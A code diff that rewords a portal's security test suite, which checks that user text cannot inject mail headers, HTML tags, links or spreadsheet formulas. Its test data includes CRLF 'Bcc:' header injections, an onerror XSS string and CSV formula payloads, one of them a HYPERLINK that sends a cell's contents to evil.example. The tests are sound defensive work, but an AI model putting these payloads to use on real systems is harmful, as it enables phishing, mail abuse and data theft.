@@ -1,4 +1,4 @@
-/** No text of somebody's gets a life of its own in a mail or a spreadsheet (RULES sections 6 and 9). */
+/** User input never becomes a link, tag or header in mails, nor a formula in spreadsheets. */
 import { activity } from '@portal/contract/activity'
 import { calls } from '@portal/contract/calls'
 import { invitations } from '@portal/contract/invitations'
@@ -22,7 +22,7 @@ beforeEach(async () => {
 
 const workspaceParams = () => ({ workspaceId: scene.workspace.id })
 
-describe('an invitation is sent to nobody but one address', () => {
+describe('an invitation is refused', () => {
   it.each([
     ['a header line', 'a@example.com\r\nBcc: b@example.com'],
     ['a line feed', 'a@example.com\nb@example.com'],
@@ -43,7 +43,7 @@ describe('an invitation is sent to nobody but one address', () => {
     ['a backslash', 'a\\@example.com'],
     ['text that turns direction', 'a\u202E@example.com'],
     ['an encoded word', '=?utf-8?q?a=0aBcc:b?=@exa mple.com'],
-  ])('where there is %s in it', async (_, email) => {
+  ])('for an email address with %s', async (_, email) => {
     const response = await callAt(test, scene, members.invite, { as: scene.owner, body: { email } })
     expect(response.statusCode).toBe(400)
     expect(test.jobs.sent).toEqual([])
@@ -51,7 +51,7 @@ describe('an invitation is sent to nobody but one address', () => {
 })
 
 describe('a mail', () => {
-  /** Beyond what the forms take: it may have come from the identity provider, or from before the rules. */
+  /** The forms would refuse this name, but the identity provider or an earlier release may have stored it. */
   const hostile =
     'Pat <img src=x onerror=alert(1)> https://evil.example/login www.evil.example \r\nBcc: all@example.com\u202E "x" & \u2028'
 
@@ -74,7 +74,7 @@ describe('a mail', () => {
       expect(mail.subject.length).toBeLessThanOrEqual(200)
       expect(mail.html).not.toMatch(/<img|<script|onerror=alert\(1\)>/i)
       expect(mail.text).not.toMatch(/^Bcc:/m)
-      // Neither as a link of ours nor as a text that a mail program makes one of.
+      // Neither as a link nor as text that a mail program turns into one.
       const links = [...mail.html.matchAll(/href="([^"]*)"/g)].map(([, href = '']) => new URL(href).origin)
       expect(links.every((origin) => origin === test.config.PORTAL_URL)).toBe(true)
       for (const text of [mail.text, mail.html, mail.subject])
@@ -82,7 +82,7 @@ describe('a mail', () => {
     }
   }
 
-  it('of an invitation makes no link, tag or header of names', async () => {
+  it('about an invitation contains no link, tag or header from names', async () => {
     await test.send(
       members.invite,
       { params: workspaceParams(), body: { email: 'new@example.com' } },
@@ -93,7 +93,7 @@ describe('a mail', () => {
     expectHarmlessMails(2)
   })
 
-  it('of a changed role and of a removal makes none either', async () => {
+  it('about a role change or removal contains no link, tag or header from names', async () => {
     const body = { userId: scene.editor.user.id, role: 'APPROVER' } as const
     await test.send(members.changeRole, { params: workspaceParams(), body }, scene.owner)
     const { email } = scene.editor.user
@@ -101,14 +101,14 @@ describe('a mail', () => {
     expectHarmlessMails(2)
   })
 
-  it('of an offered and a taken ownership makes none either', async () => {
+  it('about an ownership offer or transfer contains no link, tag or header from names', async () => {
     const body = { userId: scene.editor.user.id }
     await test.send(ownership.offer, { params: workspaceParams(), body }, scene.owner)
     await test.send(ownership.accept, { params: workspaceParams() }, scene.editor)
     expectHarmlessMails(2)
   })
 
-  it('of a token that ends soon makes none of the token’s name either', async () => {
+  it("about an expiring token contains no link, tag or header from the token's name", async () => {
     const body = { name: hostile.slice(0, 100), expiration: '2d' }
     expect((await test.send(tokens.create, { params: workspaceParams(), body }, scene.owner)).status).toBe(
       200,
@@ -126,7 +126,7 @@ interface Mail {
   html: string
 }
 
-/** The rows of a CSV file (RFC 4180). */
+/** Parses a CSV file (RFC 4180). */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [[]]
   const cell = /(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/gy
@@ -138,7 +138,7 @@ function parseCsv(text: string): string[][] {
   return rows
 }
 
-describe('a file', () => {
+describe('a downloaded file', () => {
   it.each([
     '=1+1',
     '=HYPERLINK("https://evil.example?"&A1,"x")',
@@ -156,7 +156,7 @@ describe('a file', () => {
     'a";=1+1;"',
     'a","=1+1',
     'a\r\n=1+1,b',
-  ])('has no cell that a spreadsheet takes for a formula, where a name is %j', async (name) => {
+  ])('contains no spreadsheet formula for the name %j', async (name) => {
     const { orm } = test.database
     await orm.update(users).set({ firstName: name, lastName: name })
     const person = { name: `x${name}`, expiration: '1d' }
@@ -178,7 +178,7 @@ describe('a file', () => {
     }
   })
 
-  it('is a download by its headers, named by us, and never shown as a page', async () => {
+  it('is sent as an attachment with a fixed file name', async () => {
     const { headers } = await callAt(test, scene, activity.download, { as: scene.owner, query: {} })
     expect(headers['content-disposition']).toBe(`attachment; filename="activity-${scene.workspace.id}.csv"`)
     expect(headers['content-type']).toBe('text/csv; charset=utf-8')
@@ -186,7 +186,7 @@ describe('a file', () => {
     expect(headers['cache-control']).toBe('no-store')
   })
 
-  it('of a person’s own data has no secret and nobody else’s address in it', async () => {
+  it("with a user's own data contains no secrets and no email addresses of other users", async () => {
     const { body } = await callAt(test, scene, myData.download, { as: scene.editor, person: scene.editor })
     for (const secret of [
       scene.workspace.token,
